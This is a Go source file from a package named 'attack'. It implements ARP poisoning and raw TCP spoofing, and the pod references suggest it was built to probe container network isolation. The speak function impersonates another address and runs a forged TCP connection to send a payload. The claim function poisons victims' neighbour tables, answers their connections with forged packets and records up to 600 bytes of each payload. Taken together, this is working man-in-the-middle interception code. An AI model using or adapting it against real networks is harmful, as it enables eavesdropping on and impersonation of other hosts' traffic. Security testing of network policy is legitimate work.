package attack

import (
	"encoding/binary"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// How a connection past the kernel ends, as the kernel would tell it.
var (
	errTimeout = os.ErrDeadlineExceeded
	errReset   = unix.ECONNRESET
	errEnd     = io.EOF
)

// isOwn: the pod has the address.
func isOwn(a netip.Addr) bool {
	all, _ := net.InterfaceAddrs()
	for _, one := range all {
		if p, err := netip.ParsePrefix(one.String()); err == nil && p.Addr() == a {
			return true
		}
	}
	return false
}

// speak makes a whole TCP connection past the kernel, from an address that is not the pod's: it answers for the
// address in From on the pod's link, tells the victims so, connects, sends, and keeps what comes back.
func speak(a Attempt, o *Outcome) error {
	from, to, err := a.ends()
	if err != nil {
		return err
	}
	w, err := listen(outside, false)
	if err != nil {
		return err
	}
	defer w.close()
	hop, err := nextHop(to.Addr())
	if err != nil {
		return at("resolve", err)
	}
	claims := []netip.Addr{from.Addr()}
	if len(a.Victims) > 0 {
		victims, err := addresses(a.Victims)
		if err != nil {
			return err
		}
		stop := make(chan struct{})
		undo, err := w.poison(victims, claims, stop)
		if err != nil {
			return err
		}
		defer func() { close(stop); undo() }()
		time.Sleep(300 * time.Millisecond) // three times told
	}
	kind := etherIP(to.Addr())
	o.Local, o.Stage = a.From, "connect"
	p := packet{from: from, to: to, Segment: Segment{Seq: 0x57465446, Flags: SYN}}
	end := time.Now().Add(a.limit())
	open, again := false, time.Time{}
	for {
		if !open && time.Now().After(again) {
			if err := w.send(hop, kind, p.bytes()); err != nil {
				return err
			}
			again = time.Now().Add(300 * time.Millisecond)
		}
		until := end
		if !open && again.Before(end) {
			until = again
		}
		frame, err := w.next(until)
		if err != nil {
			return err
		}
		if frame == nil {
			if time.Now().Before(end) {
				continue
			}
			return at(o.Stage, errTimeout)
		}
		if err := w.answer(frame, claims); err != nil {
			return err
		}
		answer, ok := readPacket(frame[14:])
		if !ok || binary.BigEndian.Uint16(frame[12:]) != kind || answer.from != to || answer.to != from {
			continue
		}
		switch {
		case answer.Flags&RST != 0:
			return at(o.Stage, errReset)
		case !open && answer.Flags&(SYN|ACK) == SYN|ACK:
			open, o.Stage = true, "read"
			p.Seq, p.Ack, p.Flags = p.Seq+1, answer.Seq+1, ACK
			if err := w.send(hop, kind, p.bytes()); err != nil {
				return err
			}
			p.Flags, p.payload = PSH|ACK, a.Send
			if err := w.send(hop, kind, p.bytes()); err != nil {
				return err
			}
			p.Seq, p.payload, p.Flags = p.Seq+uint32(len(a.Send)), nil, ACK
		case open && answer.Seq == p.Ack:
			o.Got = append(o.Got, answer.payload...)
			p.Ack += uint32(len(answer.payload))
			if answer.Flags&FIN != 0 {
				return at("read", errEnd)
			}
			if len(answer.payload) > 0 {
				if err := w.send(hop, kind, p.bytes()); err != nil {
					return err
				}
				end = time.Now().Add(quiet)
			}
		}
	}
}

// claim tells the victims for the time that addresses are the attacker's, takes the connections that come, and keeps
// the first bytes of each.
func claim(a Attempt, o *Outcome) error {
	victims, err := addresses(a.Victims)
	if err != nil {
		return err
	}
	claims, err := addresses(a.Claims)
	if err != nil {
		return err
	}
	w, err := listen(outside, false)
	if err != nil {
		return err
	}
	defer w.close()
	stop := make(chan struct{})
	undo, err := w.poison(victims, claims, stop)
	if err != nil {
		return err
	}
	defer func() { close(stop); undo() }()
	o.Counts = map[string]int{}
	taken := map[string]bool{}
	for end := time.Now().Add(a.limit()); ; {
		frame, err := w.next(end)
		if err != nil || frame == nil {
			return err
		}
		p, ok := readPacket(frame[14:])
		if !ok || !slices.Contains(victims, p.from.Addr()) || string(frame[0:6]) != string(w.own) || isOwn(p.to.Addr()) {
			continue
		}
		o.Counts["packets"]++
		reply := packet{from: p.to, to: p.from, Segment: Segment{Seq: 1000, Ack: p.Seq + 1, Flags: SYN | ACK}}
		switch {
		case p.Flags&SYN != 0:
			o.Counts["connections"]++
		case len(p.payload) > 0:
			reply.Segment = Segment{Seq: p.Ack, Ack: p.Seq + uint32(len(p.payload)), Flags: ACK}
			if ends := p.from.String() + p.to.String(); !taken[ends] && len(o.Heard) < 200 {
				taken[ends] = true
				o.Heard = append(o.Heard, append([]byte{}, p.payload[:min(len(p.payload), 600)]...))
			}
		default:
			continue
		}
		if err := w.send(frame[6:12], etherIP(p.from.Addr()), reply.bytes()); err != nil {
			return err
		}
	}
}
